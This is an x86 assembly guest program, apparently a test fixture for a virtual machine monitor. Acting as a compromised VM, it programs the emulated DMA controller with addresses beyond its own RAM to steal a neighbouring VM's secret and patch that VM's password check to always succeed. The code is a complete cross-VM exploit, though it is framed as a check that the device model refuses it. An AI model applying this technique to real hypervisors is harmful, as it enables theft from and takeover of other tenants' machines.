# attacker.asm: one weak VM, taken over, that turns the host's disk controller on its neighbour.
#
# The attacker knows two things: each VM on the host has 16 MiB of RAM, one
# VM's RAM after the other in host memory, and the victim runs a known image
# (its password check at 0x00100010, its secret at 0x00100040). It programs
# the monitor's emulated DMA controller (docs/hosts.md: ports 0xC000-0xC00F)
# with guest-physical addresses *past the end of its own RAM*:
#   1. disk <- memory at 16 MiB + 0x00100040: copy the victim's secret to its disk,
#      then disk -> its own buffer, and print what it stole;
#   2. its own payload -> disk, then disk -> memory at 16 MiB + 0x00100010:
#      overwrite the victim's password check with "mov eax, 1; ret".
# A correct device model refuses both with status 0xE1. Exit code: the
# status of the last DMA command (0 = it worked).

.equ COM1, 0x3f8
.equ DEBUG_EXIT, 0xf4
.equ DMA_ADDRESS, 0xc000
.equ DMA_LENGTH, 0xc004
.equ DMA_OFFSET, 0xc008
.equ DMA_COMMAND, 0xc00c            # write: the command; read: its status
.equ DISK_TO_MEMORY, 1
.equ MEMORY_TO_DISK, 2
.equ VICTIM_CHECK, 0x01100010       # 16 MiB (the victim's base) + its check routine
.equ VICTIM_SECRET, 0x01100040      # 16 MiB + its secret
.equ SECRET_LEN, 16
.equ PAYLOAD_LEN, 6                  # the bytes at payload
.equ WAIT, 3000                     # let the victim try once before the attack

start:
    lea esi, [hello_msg]
    call puts
    mov ecx, WAIT
wait_loop:
    dec ecx
    jnz wait_loop

    # 1. read the victim's secret: its memory -> my disk (offset 512) -> my buffer
    mov eax, VICTIM_SECRET
    mov ebx, SECRET_LEN
    mov ecx, 512
    mov edi, MEMORY_TO_DISK
    call dma
    mov [read_status], eax
    lea esi, [read_msg]
    call puts
    call puthex
    lea esi, [newline]
    call puts
    cmp dword ptr [read_status], 0
    jne patch
    lea eax, [loot]
    mov ebx, SECRET_LEN
    mov ecx, 512
    mov edi, DISK_TO_MEMORY
    call dma
    lea esi, [stole_msg]
    call puts
    lea esi, [loot]
    call puts
    lea esi, [newline]
    call puts

patch:
    # 2. my payload -> my disk (offset 0), allowed: it is my own memory
    lea eax, [payload]
    mov ebx, PAYLOAD_LEN
    xor ecx, ecx
    mov edi, MEMORY_TO_DISK
    call dma
    # ... and my disk -> "my" memory past the end of my RAM: the victim's code
    mov eax, VICTIM_CHECK
    mov ebx, PAYLOAD_LEN
    xor ecx, ecx
    mov edi, DISK_TO_MEMORY
    call dma
    mov [write_status], eax
    lea esi, [write_msg]
    call puts
    call puthex
    lea esi, [newline]
    call puts
    mov eax, [write_status]
    out DEBUG_EXIT, al
    hlt

# eax = guest-physical address, ebx = length, ecx = disk offset, edi = command;
# returns the status in eax
dma:
    mov dx, DMA_ADDRESS
    out dx, eax
    mov eax, ebx
    mov dx, DMA_LENGTH
    out dx, eax
    mov eax, ecx
    mov dx, DMA_OFFSET
    out dx, eax
    mov eax, edi
    mov dx, DMA_COMMAND
    out dx, eax
    in eax, dx
    ret

# esi = zero-terminated string
puts:
    push eax
    mov dx, COM1
puts_next:
    lodsb
    test al, al
    jz puts_done
    out dx, al
    jmp puts_next
puts_done:
    pop eax
    ret

# al = a status byte, printed as two hex digits
puthex:
    mov dx, COM1
    mov ah, al
    shr al, 4
    call puthex_digit
    mov al, ah
    and al, 0x0f
puthex_digit:
    add al, 0x30
    cmp al, 0x3a
    jb puthex_out
    add al, 7
puthex_out:
    out dx, al
    ret

hello_msg:  .asciz "attacker: up; programming the host's DMA controller\n"
read_msg:   .asciz "attacker: DMA read of the victim's memory, status 0x"
stole_msg:  .asciz "attacker: stole: "
write_msg:  .asciz "attacker: DMA write into the victim's code, status 0x"
newline:    .asciz "\n"
payload:    .byte 0xb8, 1, 0, 0, 0, 0xc3    # mov eax, 1; ret
.align 4
read_status:  .long 0
write_status: .long 0
loot:       .space 32
